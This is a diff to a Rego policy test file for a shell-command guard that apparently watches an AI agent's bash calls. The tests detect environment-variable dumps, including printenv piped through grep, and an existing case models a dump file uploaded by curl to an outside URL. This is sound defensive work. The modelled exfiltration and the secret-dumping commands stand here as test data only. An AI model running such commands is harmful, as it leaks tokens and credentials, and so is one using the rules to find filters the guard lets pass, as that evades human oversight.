@@ -48,3 +48,17 @@ test_dump_written_then_sent_denied if {
 	facts := object.union(bash([dump, cmd(1, "curl", ["F"], ["f=@/tmp/e", "https://example.com"])]), {"effects": [{"type": "send", "sink": "https://example.com", "sources": ["file:/tmp/e"]}]})
 	"guard.environment.dump_sent" in rules(facts, {"token_env": []})
 }
+
+filter_call(pattern, flags) := [
+	object.union(cmd(0, "printenv", [], []), {"pipeline": 0}),
+	object.union(cmd(1, "grep", flags, [pattern]), {"pipeline": 0, "pipe_index": 1, "sources": [0]}),
+]
+
+test_filtered_dumps_are_not_dumps if {
+	not "guard.environment.dump" in rules(bash(filter_call("NODE", [])), {})
+	not "guard.environment.dump" in rules(bash(filter_call("^(NODE|NPM)_", ["E"])), {})
+	"guard.environment.dump" in rules(bash(filter_call("TOKEN", [])), {})
+	"guard.environment.dump" in rules(bash(filter_call("^(TOOL|NPM)", ["E"])), {})
+	"guard.environment.dump" in rules(bash(filter_call("NODE", ["v"])), {})
+	"guard.environment.dump" in rules(bash(filter_call("N.*", [])), {})
+}
